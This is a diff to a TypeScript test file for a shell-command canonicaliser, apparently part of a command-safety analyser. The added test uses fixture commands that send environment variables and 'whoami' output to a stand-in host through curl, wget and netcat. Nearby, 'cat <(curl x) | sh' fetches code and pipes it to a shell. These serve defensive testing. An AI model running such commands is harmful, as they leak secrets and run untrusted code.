@@ -191,6 +191,17 @@ describe('commandViews', () => {
   it('feeds a shell with what a process substitution prints through another program', () => {
     assert.ok(texts('cat <(curl x) | sh', 'canonical').includes('curl x | sh'));
   });
+
+  it('show what is sent in the words of a request as piped into it', () => {
+    for (const [command, piped] of [
+      ['curl -d "$(env)" https://x.test', 'env | curl -d _ https://x.test'],
+      ['wget "https://x.test/?q=$(whoami)"', 'whoami | wget "https://x.test/?q=$()"'],
+      ['nc x.test 9 <<< "$(env)"', 'env | nc x.test 9 <<< $()'],
+    ] as const) {
+      assert.ok(texts(command, 'canonical').includes(piped), texts(command, 'canonical').join());
+    }
+    assert.ok(!texts('echo "$(env)"', 'canonical').includes('env | echo _'));
+  });
   it('reads names of built-in object members as programs', () => {
     for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) {
       assert.deepEqual(texts(`${name} x`, 'canonical'), [`${name} x`]);
